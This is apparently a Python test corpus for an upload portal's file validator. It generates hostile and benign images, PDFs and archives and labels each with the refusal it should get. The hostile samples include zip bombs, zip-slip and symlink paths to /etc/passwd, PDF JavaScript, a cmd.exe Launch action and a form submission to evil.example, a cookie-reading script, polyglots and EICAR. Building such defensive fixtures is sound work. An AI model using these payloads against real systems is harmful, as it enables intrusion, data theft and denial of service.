"""Files made to harm or to puzzle, and good ones beside them: what the portal must say of each."""

import functools
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image, ImageCms

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
PNG_HEADER = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file: how it is made, and why it is refused (None: it is good, or cannot harm)."""

    name: str
    make: Callable[[], bytes]
    refusal: str | None


@functools.cache
def jpeg(*, width: int = 64, height: int = 48, **options: object) -> bytes:
    """Return a JPEG of noise."""
    out = io.BytesIO()
    Image.effect_noise((width, height), 60).convert("RGB").save(out, "JPEG", quality=80, **options)
    return out.getvalue()


def with_segments(*segments: bytes, picture: bytes | None = None) -> bytes:
    """Return a JPEG with segments right after its beginning."""
    base = jpeg() if picture is None else picture
    return base[:2] + b"".join(segments) + base[2:]


def segment(marker: int, content: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(content) + 2) + content


def exif(*entries: tuple[int, int, int, int], after: bytes = b"", thumbnail: bool = False) -> bytes:
    """Return an Exif segment with one directory of entries (tag, kind, count, value)."""
    directory = struct.pack(">H", len(entries)) + b"".join(struct.pack(">HHII", *entry) for entry in entries)
    following = 8 + len(directory) + 4 if thumbnail else 0
    tiff = b"MM\0*" + struct.pack(">I", 8) + directory + struct.pack(">I", following) + after
    return segment(0xE1, b"Exif\0\0" + tiff)


ORIENTATION = (0x0112, 3, 1, 6 << 16)
GPS = (0x8825, 4, 1, 26)
GPS_DIRECTORY = struct.pack(">H", 1) + struct.pack(">HHII", 2, 5, 3, 44) + struct.pack(">I", 0) + b"\0\0\0\x15" * 6


def place_and_orientation() -> bytes:
    """Return a photo as a phone makes it: which way up, where it was taken, by which device."""
    out = io.BytesIO()
    details = Image.Exif()
    details[0x0112], details[0x010F], details[0x0110] = 6, "Maker", "Phone 12"
    details.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 42.5), 3: "E", 4: (105.0, 51.0, 15.2)})
    details.get_ifd(0x8769).update({0xA431: "SERIAL-0815"})
    Image.effect_noise((64, 48), 60).convert("RGB").save(out, "JPEG", exif=details)
    return out.getvalue()


def patched_frame(width: int, height: int) -> bytes:
    """Return a JPEG whose frame header claims another size."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def many_scans() -> bytes:
    """Return a progressive JPEG that repeats its last scan a thousand times."""
    data = jpeg(progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 1000 + data[-2:]


def chunk(kind: bytes, content: bytes, *, checksum: int | None = None) -> bytes:
    right = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", right if checksum is None else checksum)


def png(
    *chunks: bytes, width: int = 8, height: int = 8, depth: int = 8, colour: int = 2, pixels: bytes | None = None
) -> bytes:
    """Return a PNG with chunks before its pixels."""
    channels = {0: 1, 2: 3, 6: 4}[colour]
    raw = bytes(height * (1 + (width * channels * depth + 7) // 8)) if pixels is None else pixels
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"".join(
        (PNG_HEADER, chunk(b"IHDR", header), *chunks, chunk(b"IDAT", zlib.compress(raw, 1)), chunk(b"IEND", b""))
    )


def profile(*, size: int | None = None, tag_length: int | None = None) -> bytes:
    """Return a colour profile, its own size or the length of its first tag changed."""
    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    if size is not None:
        data[:4] = struct.pack(">I", size)
    if tag_length is not None:
        data[140:144] = struct.pack(">I", tag_length)
    return bytes(data)


def in_jpeg(colours: bytes) -> bytes:
    return with_segments(segment(0xE2, b"ICC_PROFILE\0\x01\x01" + colours))


def zipped(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(depth: int = 3) -> bytes:
    """Return archives within archives, 10 MB of nothing innermost, ten times at each level."""
    content = zipped(*((f"{number}.txt", bytes(1_000_000)) for number in range(10)))
    for _ in range(depth):
        content = zipped(*((f"{number}.zip", content) for number in range(10)))
    return content


def zip_with_symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def pdf(*objects: bytes, before: bytes = b"", after: bytes = b"") -> bytes:
    """Return a PDF of one empty page and further objects."""
    own = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>")
    body, places = bytearray(before + b"%PDF-1.7\n"), []
    for number, content in enumerate((*own, *objects), 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, table)
    return bytes(body) + after


def stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


@functools.cache
def zeros(megabytes: int) -> bytes:
    """Return megabytes of zeros, packed, without ever holding them."""
    pack = zlib.compressobj(9)
    first = pack.compress(bytes(1_000_000)) + pack.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, wbits=-15)
    block = again.compress(bytes(1_000_000)) + again.flush(zlib.Z_FULL_FLUSH)
    return first + block * (megabytes - 1)


def in_objects(action: bytes) -> bytes:
    """Return a PDF whose action hides in a packed object stream."""
    inside = b"9 0 " + action
    return pdf(stream(zlib.compress(inside), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"))


def hexed(name: str) -> bytes:
    return b"/" + b"".join(b"#%02x" % ord(letter) for letter in name)


JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def corpus() -> Iterator[HostileFile]:  # a table of cases
    """Yield every file."""
    yield from (HostileFile(*case) for case in (*_pictures(), *_scans(), *_papers(), *_others()))


def _pictures() -> Iterator[tuple[str, Callable[[], bytes], str | None]]:
    yield "photo", jpeg, None
    yield "photo-progressive", lambda: jpeg(progressive=True), None
    yield "photo-turned", lambda: with_segments(exif(ORIENTATION)), None
    yield "photo-colour-profile", lambda: in_jpeg(profile()), None
    yield "photo-of-a-phone", place_and_orientation, "private-data"
    yield "photo-place", lambda: with_segments(exif(ORIENTATION, GPS, after=GPS_DIRECTORY)), "private-data"
    yield "photo-preview", lambda: with_segments(exif(ORIENTATION, after=jpeg(), thumbnail=True)), "private-data"
    yield "photo-serial-number", lambda: with_segments(exif((0xA431, 2, 4, 0x41424300))), "private-data"
    yield "photo-maker-note", lambda: with_segments(exif((0x927C, 7, 4, 1))), "private-data"
    yield "photo-exif-cut", lambda: with_segments(segment(0xE1, b"Exif\0\0MM\0*")), "private-data"
    yield "photo-exif-loop", lambda: with_segments(exif((0x8769, 4, 1, 8))), None
    yield "photo-xmp", lambda: with_segments(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x/>")), "private-data"
    yield "photo-iptc", lambda: with_segments(segment(0xED, b"Photoshop 3.0\0")), "private-data"
    yield "photo-comment-with-zip", lambda: with_segments(segment(0xFE, zipped(("a", b"b")))), "private-data"
    yield "photo-and-zip", lambda: jpeg() + zipped(("run.exe", b"MZ")), "hidden-data"
    yield "photo-and-html", lambda: jpeg() + SCRIPT, "hidden-data"
    yield "photo-flood", lambda: patched_frame(65_000, 65_000), "pixels"
    yield "photo-no-height", lambda: patched_frame(64, 0), "damaged"
    yield "photo-many-scans", many_scans, "damaged"
    yield "photo-two-frames", lambda: with_segments(jpeg()[jpeg().index(b"\xff\xc0") :][:19]), "damaged"
    yield "photo-arithmetic", lambda: jpeg().replace(b"\xff\xc0", b"\xff\xc9", 1), "damaged"
    yield "photo-cut", lambda: jpeg()[: len(jpeg()) // 2], "damaged"
    yield "photo-three-bytes", lambda: jpeg()[:3], "damaged"
    yield "photo-stuffed", lambda: jpeg()[:-2] + b"\xff\x00" * 4_000_000 + b"\xff\xd9", None
    yield "photo-profile-too-long", lambda: in_jpeg(profile(size=1_000_000_000)), "damaged"
    yield "photo-profile-tag-beyond", lambda: in_jpeg(profile(tag_length=0xFFFFFFF0)), "damaged"


def _scans() -> Iterator[tuple[str, Callable[[], bytes], str | None]]:
    yield "scan", png, None
    yield "scan-large", lambda: png(width=10_000, height=9_000, depth=1, colour=0), None
    yield "scan-program-name", lambda: png(chunk(b"tEXt", b"Software\0gscan2pdf")), None
    yield "scan-place", lambda: png(chunk(b"eXIf", exif(GPS, after=GPS_DIRECTORY)[10:])), "private-data"
    yield "scan-html", lambda: png(chunk(b"iTXt", b"a\0\0\0\0\0" + SCRIPT)), "private-data"
    yield "scan-author", lambda: png(chunk(b"tEXt", b"Author\0Nguyen Thi A")), "private-data"
    yield "scan-and-zip", lambda: png() + zipped(("run.exe", b"MZ")), "hidden-data"
    yield "scan-zip-inside", lambda: png(chunk(b"prVt", zipped(("run.exe", b"MZ")))), "hidden-data"
    yield "scan-flood", lambda: png(width=50_000, height=50_000, pixels=b"\0"), "pixels"
    yield "scan-deep-flood", lambda: png(width=9_000, height=9_000, depth=16, colour=6, pixels=b"\0"), "pixels"
    yield "scan-no-width", lambda: png(width=0, pixels=b"\0"), "damaged"
    yield "scan-too-many-pixels", lambda: png(pixels=bytes(20_000_000)), "damaged"
    yield "scan-too-few-pixels", lambda: png(pixels=bytes(100)), "damaged"
    yield "scan-wrong-checksum", lambda: png(chunk(b"gAMA", b"\0\0\0\1", checksum=1)), "damaged"
    yield "scan-profile-bomb", lambda: png(chunk(b"iCCP", b"a\0\0" + zeros(200))), "damaged"
    yield "scan-cut", lambda: png()[:-10], "damaged"


def _papers() -> Iterator[tuple[str, Callable[[], bytes], str | None]]:
    yield "paper", lambda: pdf(stream(zlib.compress(b"BT (Giay khai sinh) Tj ET"))), None
    yield "paper-incremental", lambda: pdf() + b"9 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n", None
    yield "paper-javascript", lambda: pdf(JAVASCRIPT), "active-content"
    yield (
        "paper-javascript-hexed",
        lambda: pdf(JAVASCRIPT.replace(b"/JavaScript", hexed("JavaScript"))),
        "active-content",
    )
    yield "paper-javascript-packed", lambda: in_objects(JAVASCRIPT), "active-content"
    yield "paper-launch", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "active-content"
    yield "paper-form-elsewhere", lambda: pdf(b"<</S /SubmitForm /F (http://evil.example)>>"), "active-content"
    yield "paper-xfa", lambda: pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "active-content"
    yield "paper-files-inside", lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")), "embedded-files"
    yield "paper-password", lambda: pdf(after=b"trailer<</Encrypt 5 0 R>>\n%%EOF\n"), "encrypted"
    yield "paper-bomb", lambda: pdf(stream(zeros(1_000))), "bomb"
    yield "paper-many-bombs", lambda: pdf(*(stream(zeros(100)) for _ in range(10))), "bomb"
    yield (
        "paper-packed-twice",
        lambda: pdf(stream(zlib.compress(zeros(100)), b"/Filter[/FlateDecode/FlateDecode]")),
        ("opaque"),
    )
    yield "paper-objects-in-letters", lambda: pdf(stream(b"<~9jq~>", b"/Type/ObjStm/Filter/ASCII85Decode")), "opaque"
    yield "paper-lzw", lambda: pdf(stream(b"\x80\x0b" * 60_000, b"/Filter/LZWDecode")), "opaque"
    yield "paper-picture-flood", lambda: pdf(stream(b"0", b"/Subtype/Image/Width 999999/Height 999999")), "pixels"
    yield "paper-many-streams", lambda: pdf(b"stream\n" * 60_000), "opaque"
    yield "paper-and-zip", lambda: pdf(after=zipped(("run.exe", b"MZ"))), "hidden-data"
    yield "paper-zip-inside", lambda: pdf(stream(zipped(("run.exe", b"MZ")), b"")), "hidden-data"
    yield "paper-and-html", lambda: pdf(after=SCRIPT), "hidden-data"
    yield "paper-behind-html", lambda: pdf(before=SCRIPT), "type"
    yield "paper-cut", lambda: pdf()[:-8], "damaged"


def _others() -> Iterator[tuple[str, Callable[[], bytes], str | None]]:
    yield "nothing", lambda: b"", "empty"
    yield "html", lambda: SCRIPT, "type"
    yield "program", lambda: b"MZ" + bytes(300), "type"
    yield "gif-and-html", lambda: b"GIF89a/*" + SCRIPT + b"*/", "type"
    yield "svg-script", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "type"
    yield "heic", lambda: b"\0\0\0\x18ftypheic" + bytes(64), "type"
    yield "zip-bomb", zip_bomb, "type"
    yield "zip-slip", lambda: zipped(("../../etc/passwd", b"x")), "type"
    yield "zip-symlink", zip_with_symlink, "type"
    yield "eicar", lambda: EICAR, "malware"
    yield "eicar-in-a-paper", lambda: pdf(stream(bytes(2_000_000) + EICAR + bytes(2_000_000), b"")), "malware"
